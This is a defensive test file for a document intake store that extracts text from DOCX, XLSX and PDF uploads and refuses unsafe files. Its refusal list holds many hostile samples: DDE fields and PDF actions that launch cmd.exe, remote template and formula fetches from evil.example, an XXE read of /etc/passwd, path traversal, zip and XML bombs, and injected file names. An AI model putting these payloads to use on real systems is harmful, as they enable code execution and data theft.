import { existsSync } from 'node:fs';
import { mkdtemp, readdir, rm, stat, utimes } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { displayName } from '../../src/adapters/documents/display-name.ts';
import { sniffDocument } from '../../src/adapters/documents/document-header.ts';
import { maxDocumentBytes, maxEntries, maxPages, maxTextChars } from '../../src/adapters/documents/limits.ts';
import { readDocument } from '../../src/adapters/documents/read-document.ts';
import { createDiskMediaStore } from '../../src/adapters/media/disk-media-store.ts';
import { judgeSecrecy } from '../../src/domain/checks/judge-secrecy.ts';
import type { DocumentIntake, DocumentRefusal } from '../../src/ports/documents.ts';
import type { MediaStore } from '../../src/ports/media.ts';
import { aJpeg } from '../support/sample-photos.ts';
import {
  aDocx,
  aLockedPdf,
  aPdf,
  aXlsx,
  contentTypes,
  docxParts,
  laughs,
  objectStream,
  paragraph,
  type SampleRelation,
  wordPartType,
  wordType,
  zipOf,
} from './documents-samples.ts';

let folder: string;
let store: MediaStore;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'documents-'));
  store = createDiskMediaStore({ folder });
});
afterAll(async () => {
  await store.close();
  await rm(folder, { recursive: true });
});

async function taken(
  bytes: Uint8Array,
  name: string | null = 'a.bin',
): Promise<Extract<DocumentIntake, { readonly ok: true }>> {
  const intake = await store.takeDocument(bytes, name);
  if (!intake.ok) throw new Error(`refused: ${intake.refusal}`);
  return intake;
}

// ── Extraction ─────────────────────────────────────────────────────────────────────────────────────────────────────

describe('the text of a DOCX', () => {
  it('Paragraphs become lines in composed Unicode, whatever the program wrote', async () => {
    const body = paragraph('Phường Đông Lạc'.normalize('NFD')) + paragraph('Kính gửi: Ban Biên tập &amp; bà con');
    expect((await taken(aDocx({ body }))).text).toBe('Phường Đông Lạc\nKính gửi: Ban Biên tập & bà con');
  });

  it('Text split by Word is joined, and tabs, line breaks and cells separate words', async () => {
    const run = (text: string) => `<w:r><w:t>${text}</w:t></w:r>`;
    const cell = (text: string) => `<w:tc>${paragraph(text)}</w:tc>`;
    const body = `<w:p>${run('Tổ dân ')}${run('phố')}<w:r><w:tab/></w:r>${run('số 5')}<w:r><w:br/></w:r>${run('họp')}</w:p><w:tbl><w:tr>${cell('Ông A')}${cell('0912')}</w:tr></w:tbl>`;
    expect((await taken(aDocx({ body }))).text).toBe('Tổ dân phố\tsố 5\nhọp\nÔng A\t0912');
  });

  it('The text includes what Word hides: deleted words, comments, notes and headers', async () => {
    const part = (name: string, element: string, text: string) => ({
      name: `word/${name}.xml`,
      bytes: `<w:${element} xmlns:w="w">${paragraph(text)}</w:${element}>`,
    });
    const { text } = await taken(
      aDocx({
        body: '<w:p><w:del><w:r><w:delText>đã xóa</w:delText></w:r></w:del></w:p>',
        types: {
          'word/comments.xml': wordPartType('comments'),
          'word/footnotes.xml': wordPartType('footnotes'),
          'word/header1.xml': wordPartType('header'),
        },
        parts: [
          part('comments', 'comments', 'góp ý'),
          part('footnotes', 'footnotes', 'chú thích'),
          part('header1', 'hdr', 'đầu trang'),
        ],
      }),
    );
    expect(text.split('\n').filter(Boolean)).toEqual(['đầu trang', 'đã xóa', 'chú thích', 'góp ý']);
  });

  it('Parts are found by their type, not by their name, which a sender can choose', async () => {
    const main = docxParts({ body: paragraph('Giấu tên') })
      .filter(({ name }) => name !== '[Content_Types].xml')
      .map((part) => (part.name === 'word/document.xml' ? { ...part, name: 'Word/Tin.dat' } : part));
    const bytes = zipOf([contentTypes({ 'word/TIN.dat': wordType }), ...main]);
    expect(await taken(bytes)).toMatchObject({ document: { kind: 'docx' }, text: 'Giấu tên' });
  });

  it('A text box is read once, although Word stores it twice', async () => {
    const box = `<mc:AlternateContent><mc:Choice>${paragraph('một lần')}</mc:Choice><mc:Fallback>${paragraph('một lần')}</mc:Fallback></mc:AlternateContent>`;
    expect((await taken(aDocx({ body: `<w:p><w:r>${box}</w:r></w:p>` }))).text).toBe('một lần');
  });

  it('Lines of a cell stay lines, so that a stamp below a document number is a line of its own', async () => {
    const cell = (...lines: string[]) => `<w:tc>${lines.map(paragraph).join('')}</w:tc>`;
    const head = `<w:tbl><w:tr>${cell('', 'ỦY BAN NHÂN DÂN', 'Số: 12/KH-UBND', 'MẬT', '')}${cell('CỘNG HÒA', 'Độc lập')}</w:tr></w:tbl>`;
    const { text } = await taken(aDocx({ body: head + paragraph('KẾ HOẠCH') }));
    expect(text).toBe('ỦY BAN NHÂN DÂN\nSố: 12/KH-UBND\nMẬT\nCỘNG HÒA\nĐộc lập\n\nKẾ HOẠCH');
    expect(judgeSecrecy({ texts: [text] }).rules).toEqual(['SEC-STAMP-LINE']);
  });

  it.each([
    ['a text box', `<w:txbxContent>${paragraph('MẬT')}</w:txbxContent>`],
    [
      'a text box in a cell',
      `<w:tbl><w:tr><w:tc><w:p><w:r><w:t>Số: 12</w:t></w:r><w:txbxContent>${paragraph('MẬT')}</w:txbxContent><w:r><w:t>/KH</w:t></w:r></w:p></w:tc></w:tr></w:tbl>`,
    ],
    [
      'a table in a cell',
      `<w:tbl><w:tr><w:tc>${paragraph('Số: 12')}<w:tbl><w:tr><w:tc>${paragraph('MẬT')}</w:tc></w:tr></w:tbl></w:tc></w:tr></w:tbl>`,
    ],
    [
      'a line break in a cell',
      '<w:tbl><w:tr><w:tc><w:p><w:r><w:t>Số: 12</w:t><w:br/><w:t>MẬT</w:t></w:r></w:p></w:tc><w:tc/></w:tr></w:tbl>',
    ],
    ['a watermark', '<w:pict><v:shape><v:textpath string="MẬT"/></v:shape></w:pict>'],
  ])('A line of its own is given to %s in the middle of a paragraph', async (_, inside) => {
    const run = (text: string) => `<w:r><w:t>${text}</w:t></w:r>`;
    const { text } = await taken(aDocx({ body: `<w:p>${run('Ủy ban')}${inside}${run('nhân dân')}</w:p>` }));
    expect(text.split('\n')).toContain('MẬT');
    expect([text.startsWith('Ủy ban'), text.endsWith('nhân dân')]).toEqual([true, true]);
  });

  it('The text is cut at its limit and marked as cut', async () => {
    const body = Array.from({ length: 50_000 }, (_, at) => paragraph(`Chữ thứ ${at * 7_919}`)).join('');
    const { text, document } = await taken(aDocx({ body }));
    expect([text.length, document.textIsCut, document.characters]).toEqual([maxTextChars, true, maxTextChars]);
  });

  it('60 photos in a document are counted and not extracted', async () => {
    const picture = await aJpeg({ width: 300, height: 200 });
    const parts = Array.from({ length: 60 }, (_, at) => ({
      name: `word/media/image${at}.jpg`,
      bytes: picture,
      method: 0,
    }));
    const { document, text } = await taken(aDocx({ body: paragraph('Ảnh hội nghị'), parts }));
    expect([document.kind, document.pictures, text]).toEqual(['docx', 60, 'Ảnh hội nghị']);
  });

  it('A chart’s workbook is accepted, and its text is read', async () => {
    const workbook = aXlsx({ strings: ['Số hộ'], rows: ['<c t="s"><v>0</v></c><c><v>812</v></c>'] });
    const bytes = aDocx({
      body: paragraph('Biểu đồ'),
      parts: [{ name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx', bytes: workbook }],
    });
    expect((await taken(bytes)).text.split('\n').filter(Boolean)).toEqual(['Biểu đồ', 'Bảng 1', 'Số hộ\t812']);
  });
});

describe('the text of an XLSX', () => {
  it('Rows become lines and cells are separated by tabs: shared and inline text, numbers and results', async () => {
    const { document, text } = await taken(
      aXlsx({
        strings: ['Điện thoại', 'Họ tên'],
        rows: [
          '<c t="s"><v>1</v></c><c t="s"><v>0</v></c>',
          '<c t="inlineStr"><is><t>Bà Lan</t></is></c><c><v>912345678</v></c>',
          '<c t="str"><f>CONCAT(A2,"!")</f><v>Bà Lan!</v></c>',
        ],
      }),
    );
    expect(document).toMatchObject({ kind: 'xlsx', pages: null, picture: null });
    expect(text).toBe('Bảng 1\n\nHọ tên\tĐiện thoại\nBà Lan\t912345678\nBà Lan!');
  });

  it('The text includes sheet names and printed headers and footers, without their codes', async () => {
    const edges =
      '<headerFooter><oddHeader>&amp;L&amp;"Times New Roman,Bold"&amp;14TUYỆT MẬT&amp;RHỏi &amp;&amp; đáp</oddHeader><evenFooter>&amp;K01+022Trang &amp;P/&amp;N</evenFooter></headerFooter>';
    const { text } = await taken(aXlsx({ sheetName: 'TỐI MẬT', rows: ['<c><v>1</v></c>'], edges }));
    expect(text.split('\n').filter(Boolean)).toEqual(['TỐI MẬT', '1', 'TUYỆT MẬT', 'Hỏi & đáp', 'Trang /']);
  });
});

describe('a PDF', () => {
  it('A PDF gives its text page by page, and its first page as a picture', async () => {
    const { document, text } = await taken(aPdf({ pages: ['Thong bao so 12', 'Trang hai'] }));
    expect(document).toMatchObject({ kind: 'pdf', pages: 2, pictures: 0, picture: { width: 960, height: 1359 } });
    expect(text).toBe('Thong bao so 12\nTrang hai');
    const picture = await store.readDocumentPicture(document.hash);
    const { data, info } = await sharp(picture ?? new Uint8Array())
      .greyscale()
      .raw()
      .toBuffer({ resolveWithObject: true });
    expect([info.width, info.height]).toEqual([960, 1359]);
    expect(data.filter((grey) => grey < 64).length).toBeGreaterThan(500); // ink
    expect(data[0]).toBe(255);
  });

  it('A PDF without text is accepted as a possible scan', async () => {
    expect((await taken(aPdf({ pages: [' '] }))).document).toMatchObject({ characters: 0, pages: 1 });
  });

  it('A PDF whose text mentions scripts and launches is accepted', async () => {
    expect((await taken(aPdf({ pages: ['Bai hoc /S /JavaScript va /Launch'] }))).document.pages).toBe(1);
  });

  it('Text that lies over a page, such as a typed stamp, is read', async () => {
    const words = Buffer.from('TUYỆT MẬT', 'utf16le').swap16().toString('hex');
    const stamp = `<< /Type /Annot /Subtype /FreeText /Rect [72 760 300 800] /DA (/F1 24 Tf) /Contents <feff${words}> >>`;
    const empty = '<< /Type /Annot /Subtype /Square /Rect [0 0 9 9] >>';
    expect((await taken(aPdf({ pages: ['Ke hoach'], annotations: [empty, stamp] }))).text).toBe('Ke hoach\nTUYỆT MẬT');
  });

  it('A PDF with a web address is accepted', async () => {
    const link = '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://donglac.example) >> >>';
    expect((await taken(aPdf({ objects: [link] }))).document.kind).toBe('pdf');
  });
});

// ── Refusals ───────────────────────────────────────────────────────────────────────────────────────────────────────

const withRelation = (...relations: SampleRelation[]) => aDocx({ body: paragraph('x'), relations });
const outside = (kind: string, target: string) => withRelation({ kind, target, external: true });
const field = (instruction: string) =>
  aDocx({ body: `<w:p><w:r><w:instrText>${instruction}</w:instrText></w:r></w:p>` });
const macroType = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const compound = (stream: string) =>
  Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(600),
    Buffer.from(stream, 'utf16le'),
    Buffer.alloc(600),
  ]);
const nested = (inner: Buffer) =>
  aDocx({ body: paragraph('x'), parts: [{ name: 'word/embeddings/inner.xlsx', bytes: inner }] });

const refused: readonly [what: string, refusal: DocumentRefusal, make: () => Buffer | Promise<Buffer>][] = [
  ['an empty file', 'empty', () => Buffer.alloc(0)],
  ['more than 20 MiB', 'too-big', () => Buffer.concat([Buffer.from('%PDF-1.7'), Buffer.alloc(maxDocumentBytes)])],
  ['a text', 'not-a-document', () => Buffer.from('Kính gửi Ban Biên tập')],
  ['a web page with a PDF behind it', 'not-a-document', () => Buffer.concat([Buffer.from('<html>'), aPdf()])],
  ['a photo', 'picture', () => aJpeg()],
  ['a Word file of before 2007', 'old-office', () => compound('WordDocument')],
  ['an RTF', 'unsupported-format', () => Buffer.from('{\\rtf1\\ansi}')],
  [
    'a presentation',
    'unsupported-format',
    () =>
      zipOf(
        docxParts().map((part) =>
          part.name === 'word/document.xml' ? { ...part, name: 'ppt/presentation.xml' } : part,
        ),
      ),
  ],
  [
    'an OpenDocument',
    'unsupported-format',
    () => zipOf([{ name: 'mimetype', bytes: 'application/vnd.oasis.opendocument.text', method: 0 }]),
  ],
  ['a ZIP', 'archive', () => zipOf([{ name: 'anh.jpg', bytes: 'x' }])],
  ['a RAR', 'archive', () => Buffer.from('Rar!\x1a\x07\x01\0 and more', 'latin1')],

  ['a DOCX with a password', 'encrypted', () => compound('EncryptedPackage')],
  [
    'a DOCX whose parts are locked',
    'encrypted',
    () => zipOf(docxParts().map((part) => ({ ...part, isEncrypted: true }))),
  ],
  ['a PDF with a password', 'encrypted', () => aLockedPdf('mat khau')],
  ['a PDF that is locked against changes', 'encrypted', () => aLockedPdf('')],

  ['a DOCM under the name of a DOCX', 'macros', () => aDocx({ mainType: macroType })],
  ['a DOCX with a macro part', 'macros', () => aDocx({ parts: [{ name: 'word/vbaProject.bin', bytes: 'x' }] })],
  [
    'a DOCX with an ActiveX control',
    'macros',
    () => aDocx({ parts: [{ name: 'word/activeX/activeX1.xml', bytes: '<x/>' }] }),
  ],
  [
    'a DOCX that starts a program by DDE',
    'macros',
    () => field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '),
  ],
  [
    'a DOCX that does so behind a page number, in two pieces',
    'macros',
    () =>
      aDocx({
        body: `<w:p>${['PAGE', 'DDEA', 'UTO c:\\\\cmd.exe'].map((text, at) => `<w:r>${at < 2 ? '<w:fldChar w:fldCharType="begin"/>' : ''}<w:instrText>${text}</w:instrText></w:r>`).join('')}</w:p>`,
      }),
  ],
  [
    'an XLSX with a macro sheet of 1992',
    'macros',
    () => aXlsx({ types: { 'xl/macrosheets/sheet1.xml': 'application/vnd.ms-excel.macrosheet+xml' } }),
  ],
  ['a PDF with a script', 'macros', () => aPdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' })],
  [
    'a PDF with a script of a disguised name',
    'macros',
    () => aPdf({ catalog: '/OpenAction << /S /J#61va#53cript /JS (x) >>' }),
  ],
  [
    'a PDF with a script in a packed object',
    'macros',
    () => aPdf({ objects: [objectStream('<< /S /JavaScript /JS (x) >>')] }),
  ],
  ['a PDF that starts a program', 'macros', () => aPdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' })],
  ['a PDF form that is a program', 'macros', () => aPdf({ catalog: '/AcroForm << /XFA [] >>' })],

  [
    'a DOCX with a template from elsewhere',
    'external-content',
    () => outside('attachedTemplate', 'https://evil.example/t.dotm'),
  ],
  ['a DOCX with a picture from elsewhere', 'external-content', () => outside('image', 'http://127.0.0.1:9/x.png')],
  [
    'a DOCX with an OLE object from elsewhere',
    'external-content',
    () => outside('oleObject', 'mhtml:http://evil.example/x!'),
  ],
  ['a DOCX with a link into a network', 'external-content', () => outside('hyperlink', '\\\\evil\\share\\x.docx')],
  ['a DOCX with a link to a program', 'external-content', () => outside('hyperlink', 'search-ms:query=x')],
  [
    'a DOCX with a field that fetches',
    'external-content',
    () => field('INCLUDEPICTURE "https://evil.example/x.png" \\d'),
  ],
  [
    'an XLSX with another workbook',
    'external-content',
    () =>
      aXlsx({
        types: {
          'xl/externalLinks/externalLink1.xml':
            'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml',
        },
        parts: [{ name: 'xl/externalLinks/externalLink1.xml', bytes: '<externalLink/>' }],
      }),
  ],
  [
    'an XLSX with a formula that fetches',
    'external-content',
    () => aXlsx({ rows: ['<c><f>WEBSERVICE("https://evil.example")</f><v>1</v></c>'] }),
  ],
  [
    'an XLSX with a cell that speaks to a program',
    'external-content',
    () => aXlsx({ rows: ["<c><f>cmd|'/c calc'!A1</f><v>1</v></c>"] }),
  ],
  [
    'a PDF with contents from elsewhere',
    'external-content',
    () => aPdf({ objects: ['<< /F << /FS /URL /F (https://evil.example/x) >> >>'] }),
  ],

  [
    'a DOCX with an OLE object',
    'embedded-file',
    () => aDocx({ parts: [{ name: 'word/embeddings/oleObject1.bin', bytes: compound('Ole') }] }),
  ],
  [
    'a DOCX with a ZIP in it',
    'embedded-file',
    () => aDocx({ parts: [{ name: 'word/media/image1.png', bytes: zipOf([{ name: 'a', bytes: 'b' }]) }] }),
  ],
  ['a DOCX with a ZIP that calls itself a workbook', 'embedded-file', () => nested(zipOf([{ name: 'a', bytes: 'b' }]))],
  ['a DOCX in a DOCX in a DOCX', 'embedded-file', () => nested(nested(aDocx()))],
  [
    'a DOCX with a program in it',
    'embedded-file',
    () => aDocx({ parts: [{ name: 'word/media/image1.emf', bytes: Buffer.from('MZ\x90\0', 'latin1') }] }),
  ],
  ['a DOCX that takes in a web page', 'embedded-file', () => withRelation({ kind: 'aFChunk', target: 'chunk.html' })],
  [
    'a PDF with an attachment',
    'embedded-file',
    () => aPdf({ objects: ['<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream'] }),
  ],

  ['150 MB of text in 150 KB', 'bomb', () => aDocx({ body: paragraph('a'.repeat(150_000_000)) })],
  [
    'a DOCX whose list says less than comes out',
    'bomb',
    () =>
      zipOf(
        docxParts({ body: paragraph('a'.repeat(9_000_000)) }).map((part) =>
          part.name === 'word/document.xml' ? { ...part, claimedSize: 1_000 } : part,
        ),
      ),
  ],
  ['a bomb behind a chart', 'bomb', () => nested(aXlsx({ strings: ['a'.repeat(40_000_000)] }))],
  [
    'a DOCX with thousands of parts',
    'bomb',
    () =>
      zipOf([
        ...docxParts(),
        ...Array.from({ length: maxEntries }, (_, at) => ({ name: `word/media/${at}`, bytes: '' })),
      ]),
  ],
  [
    'a DOCX whose parts share their bytes',
    'bomb',
    () =>
      zipOf([
        ...docxParts({ body: paragraph('x') }),
        { name: 'word/big', bytes: Buffer.alloc(300_000, 'ab1'), method: 0 },
        ...Array.from({ length: 30 }, (_, at) => ({
          name: `word/${at}`,
          bytes: Buffer.alloc(300_000, 'ab1'),
          method: 0,
          sharesWith: 'word/big',
        })),
      ]),
  ],
  [
    'a PDF whose objects grow beyond measure',
    'bomb',
    () => aPdf({ objects: [objectStream(`<< /A (${'a'.repeat(60_000_000)}) >>`)] }),
  ],

  [
    'a billion laughs',
    'unsafe-structure',
    () => zipOf(docxParts().map((part) => (part.name === 'word/document.xml' ? { ...part, bytes: laughs } : part))),
  ],
  [
    'a billion laughs in a style sheet',
    'unsafe-structure',
    () => aDocx({ parts: [{ name: 'word/styles.xml', bytes: laughs }] }),
  ],
  [
    'a billion laughs in UTF-16',
    'unsafe-structure',
    () =>
      zipOf(
        docxParts().map((part) =>
          part.name === 'word/document.xml' ? { ...part, bytes: Buffer.from(`\ufeff${laughs}`, 'utf16le') } : part,
        ),
      ),
  ],
  [
    'an XML that names a local file',
    'unsafe-structure',
    () =>
      aDocx({
        parts: [
          { name: 'customXml/item1.xml', bytes: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>' },
        ],
      }),
  ],
  [
    'a DOCX with a path that leads out',
    'unsafe-structure',
    () => aDocx({ parts: [{ name: '../../etc/cron.d/x', bytes: 'x' }] }),
  ],
  [
    'a DOCX with a link in it',
    'unsafe-structure',
    () => aDocx({ parts: [{ name: 'word/x', bytes: '/etc/passwd', isLink: true }] }),
  ],
  [
    'a DOCX with two parts of one name',
    'unsafe-structure',
    () => aDocx({ parts: [{ name: 'word/Document.xml', bytes: '<x/>' }] }),
  ],
  [
    'an XML of a thousand levels',
    'unsafe-structure',
    () => aDocx({ body: '<w:tbl>'.repeat(1_000) + '</w:tbl>'.repeat(1_000) }),
  ],

  [
    'a PDF of very many pages',
    'too-many-pages',
    () => aPdf({ pages: Array.from({ length: maxPages + 1 }, () => 'x') }),
  ],
  ['half a PDF', 'cut-off', () => aPdf({ pages: ['a', 'b', 'c'] }).subarray(0, 700)],
  [
    'half a DOCX',
    'cut-off',
    () => {
      const docx = aDocx();
      return docx.subarray(0, docx.length / 2);
    },
  ],
  ['a PDF with a header and an end mark', 'damaged', () => Buffer.from('%PDF-1.7\nrubbish\n%%EOF\n')],
  ['a DOCX with broken XML', 'damaged', () => aDocx({ body: '<w:p><w:r>' })],
  ['a DOCX with a part that does not unpack', 'damaged', () => aDocx().fill(0xff, 60, 90)],
];

describe('the media store refuses', () => {
  it.each(refused)('%s: %s', async (_what, refusal, make) => {
    const bytes = await make();
    expect(await store.takeDocument(bytes, 'bao-cao.docx')).toEqual({ ok: false, refusal });
  });

  it('The list has an example of every refusal', () => {
    const all = new Set(refused.map(([, refusal]) => refusal));
    // The worker pool reports `too-heavy`, see below; the download reports `gone`.
    expect(all.size).toBe(16);
  });

  it('Plain links are accepted: web, mail, telephone, a local path, a place in the text', async () => {
    const targets = [
      'https://donglac.example/a?b=c',
      'mailto:a@b.example',
      'tel:02431234567',
      'file:///C:/tin.docx',
      '#muc1',
      'tin.docx',
    ];
    const relations = targets.map((target) => ({ kind: 'hyperlink', target, external: true }));
    expect((await taken(withRelation(...relations))).document.kind).toBe('docx');
  });

  it('Fields that count pages or keep the address of an embedded picture are accepted', async () => {
    for (const instruction of ['PAGE', 'INCLUDEPICTURE "C:\\\\anh.png"', 'DATE \\@ "dd/MM/yyyy"']) {
      expect((await taken(field(instruction))).document.kind).toBe('docx');
    }
  });
});

describe('a document that crashes its worker', () => {
  it('The document is refused, and the next one is read', async () => {
    const lines: string[] = [];
    const say = (facts: object, message: string) => void lines.push(`${message} ${JSON.stringify(facts)}`);
    const small = createDiskMediaStore({ folder, childMemoryMb: 70, log: { info: say, warn: say } });
    try {
      expect(await small.takeDocument(aPdf({ pages: ['too heavy for so little'] }), 'đơn của bà Lan.pdf')).toEqual({
        ok: false,
        refusal: 'too-heavy',
      });
    } finally {
      await small.close();
    }
    const falls = lines.filter((line) => line.startsWith('a file crashed the file worker process'));
    expect(falls.length).toBeGreaterThan(0);
    for (const line of falls) expect(line).toMatch(/"fall":"\w+","attempt":\d/u);
    // File names are private and must not appear in the log.
    expect(lines.join(' ')).not.toContain('Lan');
    expect((await taken(aPdf({ pages: ['too heavy for so little'] }))).document.pages).toBe(1);
  });
});

describe('readers of documents', () => {
  it('Readers only ever refuse, whatever the bytes are', async () => {
    const samples = [aDocx(), aXlsx({ strings: ['a'], rows: ['<c t="s"><v>0</v></c>'] }), aPdf()];
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...samples),
        fc.array(fc.tuple(fc.nat(100_000), fc.nat(255)), { minLength: 1, maxLength: 30 }),
        async (sample, changes) => {
          const bytes = Buffer.from(sample);
          for (const [at, value] of changes) bytes[at % bytes.length] = value;
          expect(['made', 'refused']).toContain((await readDocument(bytes, { withPicture: false })).kind);
        },
      ),
      { numRuns: 300 },
    );
  });

  it('Detecting the type never fails on any first bytes', () => {
    fc.assert(
      fc.property(
        fc.constantFrom('%PDF-', 'PK\x03\x04', 'Rar!', '{\\rtf', ''),
        fc.uint8Array({ maxLength: 100 }),
        (start, rest) => void sniffDocument(Buffer.concat([Buffer.from(start, 'latin1'), rest])),
      ),
    );
  });
});

// ── Storage ────────────────────────────────────────────────────────────────────────────────────────────────────────

const filesIn = async (place: string) =>
  existsSync(place)
    ? (await readdir(place, { recursive: true, withFileTypes: true }))
        .filter((entry) => entry.isFile())
        .map((entry) => entry.name)
        .sort()
    : [];

describe('a stored document', () => {
  it('A document’s original, text, picture and mark are stored in private files', async () => {
    const bytes = aPdf({ pages: ['Kept'] });
    const { document } = await taken(bytes);
    const place = join(folder, 'documents', document.hash.slice(0, 2), document.hash);
    expect(await filesIn(place)).toEqual(['document.json', 'original', 'picture.webp', 'text.txt']);
    expect((await stat(join(place, 'original'))).mode & 0o777).toBe(0o600);
    expect(await store.readDocument(document.hash)).toEqual({ document, bytes });
    expect(await store.readDocumentText(document.hash)).toBe('Kept');
  });

  it('A document sent twice is stored once, under each sender’s file name', async () => {
    const bytes = aDocx({ body: paragraph('Hai lần') });
    const [first, again] = await Promise.all([taken(bytes, 'mot.docx'), taken(bytes, 'hai.docx')]);
    expect([first.name, again.name, (await taken(bytes, null)).name]).toEqual(['mot.docx', 'hai.docx', 'file.docx']);
    expect(again.document).toEqual(first.document);
    expect((await taken(bytes)).text).toBe('Hai lần');
  });

  it('A document can be read only by its hash', async () => {
    for (const strange of ['0'.repeat(64), '../../etc/passwd', '', 'A'.repeat(64)]) {
      expect(await store.readDocument(strange)).toBeNull();
      expect(await store.readDocumentText(strange)).toBeNull();
      expect(await store.readDocumentPicture(strange)).toBeNull();
    }
  });

  it('A document can be deleted at once and stored again', async () => {
    const bytes = aDocx({ body: paragraph('Mật') });
    const { document } = await taken(bytes);
    expect(await store.forget(document.hash)).toBe(3);
    expect(await store.readDocument(document.hash)).toBeNull();
    expect(await store.forget(document.hash)).toBe(0);
    expect((await taken(bytes)).document.hash).toBe(document.hash);
  });

  it('An old document that no row names is swept', async () => {
    const { document } = await taken(aDocx({ body: paragraph('Quên') }));
    const known = await taken(aDocx({ body: paragraph('Nhớ') }));
    const place = (hash: string) => join(folder, 'documents', hash.slice(0, 2), hash);
    for (const hash of [document.hash, known.document.hash]) {
      for (const path of [join(place(hash), 'document.json'), place(hash)]) await utimes(path, 0, 0);
    }
    const isKnown = async (hash: string) => hash !== document.hash;
    expect(await store.sweep(isKnown, 24 * 3_600_000)).toBe(3);
    expect(await filesIn(place(document.hash))).toEqual([]);
    expect(await store.readDocument(known.document.hash)).not.toBeNull();
  });

  it('A refused document leaves nothing on the disk', async () => {
    const other = await mkdtemp(join(tmpdir(), 'documents-refused-'));
    const small = createDiskMediaStore({ folder: other });
    await small.takeDocument(aPdf({ catalog: '/OpenAction << /S /JavaScript /JS (x) >>' }), 'x.pdf');
    await small.takeDocument(Buffer.from('no'), 'x.pdf');
    await small.close();
    expect(await filesIn(other)).toEqual([]);
    await rm(other, { recursive: true });
  });
});

describe('the displayed name of a document', () => {
  it.each([
    ['Báo cáo tháng 11.docx', 'Báo cáo tháng 11.docx'],
    ['Báo cáo.pdf', 'Báo cáo.docx'],
    ['../../../etc/passwd', 'passwd.docx'],
    ['C:\\Users\\x\\Tin.DOCX', 'Tin.docx'],
    ['hoa\u202Excod.exe', 'hoa xcod.exe.docx'],
    ['<img src=x onerror=alert(1)>.docx', 'img src=x onerror=alert(1).docx'],
    ['a\r\nContent-Type: text\u0000.docx', 'a Content-Type text.docx'],
    ['con.txt', 'con.txt.docx'],
    ['CON', '_CON.docx'],
    ['', 'file.docx'],
    ['...', 'file.docx'],
    [null, 'file.docx'],
    ['Ba\u0301o ca\u0301o', 'Báo cáo.docx'],
  ])('The name %j is shown as %j', (claimed, shown) => {
    expect(displayName(claimed, 'docx')).toBe(shown);
  });

  it('A name has at most 100 characters and no half character', () => {
    const name = displayName('📄'.repeat(3_000), 'pdf');
    expect([...name]).toHaveLength(100);
    expect(name.isWellFormed()).toBe(true);
  });

  it('A name is one line of harmless characters, whatever was sent', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (claimed) => {
        const name = displayName(claimed, 'pdf');
        expect(name).toMatch(/^[^\p{Cc}\p{Cf}/\\<>:"|?*]{1,100}\.pdf$/u);
        expect([...name].length).toBeLessThanOrEqual(100);
      }),
    );
  });
});

describe('documents of every kind', () => {
  it('Documents of every kind, bombs included, hardly enlarge the main process', async () => {
    const program = fileURLToPath(new URL('documents-memory.ts', import.meta.url));
    const { spawn } = await import('node:child_process');
    const child = spawn(process.execPath, [program, folder], { stdio: ['ignore', 'pipe', 'inherit'] });
    let output = '';
    for await (const chunk of child.stdout) output += chunk;
    const { grownMb, outcomes } = JSON.parse(output) as { grownMb: number; outcomes: readonly string[] };
    expect(outcomes).toEqual(['bomb', 'bomb', 'bomb', 'unsafe-structure', 'pdf', 'docx']);
    expect(grownMb).toBeLessThan(100);
  }, 240_000);
});
